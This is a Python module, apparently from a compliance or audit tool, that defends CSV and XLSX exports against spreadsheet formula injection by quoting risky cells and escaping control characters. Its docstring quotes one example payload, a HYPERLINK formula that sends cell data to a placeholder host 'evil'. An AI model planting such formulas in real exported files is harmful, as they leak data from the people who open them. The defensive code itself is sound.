"""Cells for spreadsheets: stored text that a spreadsheet would run as a formula is made inert.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after trimming, a tab or carriage return) as a formula, so a justification such as
``=HYPERLINK("http://evil/?"&A1, "click")`` in an exported SoA would run on an auditor's machine. Every
CSV or XLSX writer meant for people puts its cells through ``inert``, which prefixes such a cell with
``'`` (the spreadsheet convention for "this is text"), as OWASP recommends.

Machine-readable results (``aims sparql --format csv``, the SPARQL 1.1 CSV results format) stay
faithful: a program reading them must get the data exactly as stored.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The characters XML 1.0 cannot hold (all C0 controls but tab, line feed and carriage return).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def inert(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: prefixed with ``'`` when it would start a formula."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def inert_row(cells: Iterable[str]) -> list[str]:
    """Every cell of a row through ``inert``."""
    return [inert(c) for c in cells]


def _shown(match: re.Match[str]) -> str:
    return f"\\x{ord(match.group(0)):02x}"


def workbook_row(cells: Iterable[str]) -> list[str]:
    r"""A row for an XLSX sheet: inert, and the control characters XML cannot hold shown as ``\xNN``.

    openpyxl refuses such characters (``IllegalCharacterError``) and the whole export would fail on one
    stray escape code in a justification.
    """
    return [inert(_XML_ILLEGAL.sub(_shown, c)) for c in cells]
